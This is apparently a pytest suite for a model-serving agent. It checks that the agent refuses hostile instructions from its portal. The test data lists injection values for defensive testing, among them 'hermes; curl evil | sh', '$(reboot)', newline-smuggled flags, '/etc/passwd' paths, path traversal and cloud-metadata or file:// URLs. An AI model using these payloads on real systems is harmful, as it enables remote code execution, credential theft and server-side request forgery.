"""A portal that turns on its providers gets nothing: no program, no file, no address, no code."""

import asyncio
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from poolhouse_agent import addresses
from poolhouse_agent.client import PortalClient
from poolhouse_agent.config import Config, ExternalServer, ModelFolder
from poolhouse_agent.engine import external, vllm_flags
from poolhouse_agent.engine.vllm_flags import Place
from poolhouse_agent.errors import ConfigError, EngineError, PortalError
from poolhouse_agent.protocol import messages
from poolhouse_agent.protocol.messages import Desired
from poolhouse_agent.state import State

from tests.agent.conftest import join, running_agent
from tests.fakes.pool import Pool, desired

PLACE = Place(port=1, folder=Path("/models/x"), served_name="acme/x", gpu_memory_utilization=0.9, has_gpus=True)


def wanted(**changes: Any) -> Desired:
    fields: dict[str, Any] = {"deployment": "dep_1", "model": "acme/x", "engine": "vllm", "desired": "running"}
    return Desired(**{**fields, **changes})


BAD_ARGUMENTS: dict[str, dict[str, Any]] = {
    "remote code": {"trust_remote_code": True},
    "remote code by its flag": {"--trust-remote-code": True},
    "a template from the request": {"trust_request_chat_template": True},
    "local media": {"allowed_local_media_path": "/"},
    "another host": {"host": "0.0.0.0"},  # noqa: S104  what must not get through
    "a port": {"port": 22},
    "another model": {"model": "/etc"},
    "a tokenizer path": {"tokenizer": "/etc/passwd"},
    "a plugin": {"tool_parser_plugin": "/tmp/x.py"},  # noqa: S108  what must not get through
    "a middleware": {"middleware": "os.system"},
    "a worker class": {"worker_cls": "evil.Worker"},
    "a config file": {"config": "/tmp/x.yaml"},  # noqa: S108  what must not get through
    "a download folder": {"download_dir": "/"},
    "an api key": {"api_key": "known"},
    "no key at all": {"disable_log_requests": True},
    "a flag inside a value": {"seed": "1 --trust-remote-code"},
    "a flag as a value": {"kv_cache_dtype": "--trust-remote-code"},
    "a shell in a value": {"tool_call_parser": "hermes; curl evil | sh"},
    "a command substitution": {"tool_call_parser": "$(reboot)"},
    "a list": {"tool_call_parser": ["hermes"]},
    "a number for a switch": {"enforce_eager": 1},
    "a switch for a number": {"seed": True},
    "a number out of range": {"max_num_batched_tokens": 1 << 40},
    "a negative number": {"seed": -1},
    "a line end in the name": {"seed\n--trust-remote-code": 1},
}


@pytest.mark.parametrize("name", BAD_ARGUMENTS)
def test_engine_arguments_off_the_list_are_refused(name: str) -> None:
    with pytest.raises(EngineError) as raised:
        vllm_flags.arguments(wanted(engine_args=BAD_ARGUMENTS[name]), PLACE)

    assert raised.value.code == "engine_argument_refused"


@pytest.mark.parametrize(
    "changes",
    [
        {"dtype": "--trust-remote-code"},
        {"quantization": "gguf"},
        {"quantization": "bitsandbytes"},
        {"settings": {"env": {}}},
    ],
)
def test_other_fields_are_held_to_their_lists(changes: dict[str, Any]) -> None:
    with pytest.raises(EngineError) as raised:
        vllm_flags.arguments(wanted(**changes), PLACE)

    assert raised.value.code == "engine_argument_refused"


@pytest.mark.parametrize("count", [3, 0, 16, "2", True])
def test_odd_numbers_of_gpus_are_refused(count: object) -> None:
    with pytest.raises(EngineError) as raised:
        vllm_flags.arguments(wanted(engine_args={"tensor_parallel_size": count}), PLACE)

    assert raised.value.code == "tensor_parallel_invalid"


def test_what_is_on_the_list_becomes_flags() -> None:
    asked = {"enable_prefix_caching": True, "enforce_eager": False, "seed": 7, "tool_call_parser": "hermes",
             "tensor_parallel_size": 2}  # fmt: skip
    made = vllm_flags.arguments(wanted(engine_args=asked, dtype="bfloat16", max_concurrency=4), PLACE)

    text = " ".join(made)
    assert text.startswith("serve /models/x --host 127.0.0.1 --port 1 --served-model-name acme/x --max-model-len 4096")
    assert text.endswith(
        "--gpu-memory-utilization 0.90 --dtype bfloat16 --enable-prefix-caching --no-enforce-eager --seed 7 "
        "--tensor-parallel-size 2 --tool-call-parser hermes"
    )
    assert "--shutdown-timeout 60" in text


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"engine": "vllm", "engine_args": {"trust_remote_code": True}, "settings": {}}, "engine_argument_refused"),
        ({"engine": "vllm", "model": "acme/unlisted", "settings": {}}, "weights_missing"),
        ({"engine": "external", "settings": {"url": "http://10.0.0.1"}}, "external_engine_unset"),
        ({"engine": "bash", "settings": {"command": "reboot"}}, "engine_argument_refused"),
        ({"engine": "simulate"}, "simulated_engine_refused"),
        ({"deployment": "../../etc", "settings": {}}, "engine_argument_refused"),
        ({"deployment": "dep_1/../x", "settings": {}}, "engine_argument_refused"),
    ],
)
async def test_a_wish_that_is_refused_is_reported_with_its_code(
    pool: Pool, state: State, tmp_path: Path, changes: dict[str, Any], code: str
) -> None:
    weights = tmp_path / "weights"
    weights.mkdir()
    (weights / "config.json").write_text("{}", encoding="ascii")
    (weights / "model.safetensors").write_bytes(b"x")
    pool.desired = [desired(artefact_digest="0" * 64, **changes)]
    await join(pool, state, simulate="")
    config = Config(models={"acme/demo": ModelFolder(weights)}, vllm="/bin/true", nvml="/none")

    async with running_agent(state, config=config):
        beat = await pool.heartbeat(lambda beat: beat["deployments"] and beat["deployments"][0]["state"] == "failed")

    assert beat["deployments"][0]["code"] == code
    assert not (state.engines / "dep_1" / "process.json").exists()


@pytest.mark.parametrize(
    "url",
    ["http://169.254.169.254", "http://[fe80::1]:8000", "http://10.0.0.5:8000", "ftp://127.0.0.1", "http://user:pw@127.0.0.1",
     "http://127.0.0.1/?q", "file:///etc/passwd", "http://", "http://example.com"],
)  # fmt: skip
def test_external_addresses_are_loopback_or_listed(url: str) -> None:
    with pytest.raises(EngineError) as raised:
        external.require_allowed(url, allowed=frozenset({"169.254.169.254"}))

    assert raised.value.code == "config_invalid"


def test_a_listed_host_is_allowed() -> None:
    external.require_allowed("http://10.0.0.5:8000", allowed=frozenset({"10.0.0.5"}))
    external.require_allowed("http://127.0.0.1:8000", allowed=frozenset())
    external.require_allowed("http://[::1]:8000", allowed=frozenset())


async def test_a_redirect_of_the_portal_is_not_followed(pool: Pool) -> None:
    pool.raw["heartbeat"] = web.Response(status=307, headers={"location": "http://127.0.0.1:1/"})

    async with PortalClient(pool.server) as client:
        with pytest.raises(PortalError) as raised:
            await client.post("/agent/v1/heartbeat", {}, bearer="ph-session-secret")

    assert (raised.value.code, raised.value.status) == ("portal_error", 307)


async def test_an_answer_that_does_not_end_is_cut_off(pool: Pool) -> None:
    pool.raw["heartbeat"] = web.Response(body=b"[" + b"1," * (1 << 20) + b"1]")

    async with PortalClient(pool.server) as client:
        with pytest.raises(PortalError) as raised:
            await client.post("/agent/v1/heartbeat", {})

    assert raised.value.code == "portal_error"


@pytest.mark.parametrize(
    "url", ["http://pool.example", "ftp://pool.example", "https://user:pw@pool.example", "pool", ""]
)
def test_only_https_portals_are_joined(url: str) -> None:
    with pytest.raises(ConfigError) as raised:
        addresses.portal_url(url)

    assert raised.value.code in {"https_required", "server_url_invalid"}


@pytest.mark.parametrize(
    ("url", "server"),
    [
        ("ws://pool.example/agent/v1/tunnel", "https://pool.example"),
        ("ws://127.0.0.1:8000/agent/v1/tunnel", "https://pool.example"),
        ("wss://localhost/agent/v1/tunnel", "https://pool.example"),
        ("wss://pool.example/anything", "https://pool.example"),
        ("wss://pool.example/agent/v1/tunnel?x=1", "https://pool.example"),
        ("https://pool.example/agent/v1/tunnel", "https://pool.example"),
    ],
)
def test_a_tunnel_address_that_points_elsewhere_is_refused(url: str, server: str) -> None:
    with pytest.raises(ConfigError):
        addresses.tunnel_url(url, server=server)


def test_good_addresses_pass() -> None:
    assert addresses.portal_url("https://pool.example/") == "https://pool.example"
    assert addresses.portal_url("http://127.0.0.1:8000") == "http://127.0.0.1:8000"
    url = "wss://api.pool.example/agent/v1/tunnel"
    assert addresses.tunnel_url(url, server="https://pool.example") == url


BAD_REPLIES: dict[str, Any] = {
    "a list": [],
    "desired is a text": {"desired": "all"},
    "a hundred deployments": {"desired": [desired()] * 100},
    "heartbeat every nanosecond": {"heartbeat_s": 0},
    "heartbeat as text": {"heartbeat_s": "1"},
    "heartbeat is true": {"heartbeat_s": True},
    "engine_args is a list": {"desired": [desired(engine_args=[])]},
    "context is a fraction": {"desired": [desired(context_tokens=1.5)]},
    "a model name of a megabyte": {"desired": [desired(model="x" * 100_000)]},
}


@pytest.mark.parametrize("name", BAD_REPLIES)
def test_replies_of_another_shape_are_refused(name: str) -> None:
    with pytest.raises(PortalError) as raised:
        messages.read_heartbeat(BAD_REPLIES[name])

    assert raised.value.code == "portal_error"


async def test_the_agent_survives_a_portal_that_answers_nonsense(pool: Pool, state: State) -> None:
    await join(pool, state)
    pool.raw["heartbeat"] = web.json_response({"desired": "everything"})

    async with running_agent(state) as agent:
        async with asyncio.timeout(10):
            while agent.heart.last_error is None:
                await asyncio.sleep(0.02)
        assert agent.heart.last_error.code == "portal_error"
        pool.raw.clear()
        await (await pool.tunnel()).until_ready()


def test_the_external_server_comes_from_the_owners_file_only() -> None:
    config = Config(external={"acme/x": ExternalServer("http://127.0.0.1:9000")})

    assert "url" not in Desired.__slots__
    assert config.external["acme/x"].url == "http://127.0.0.1:9000"
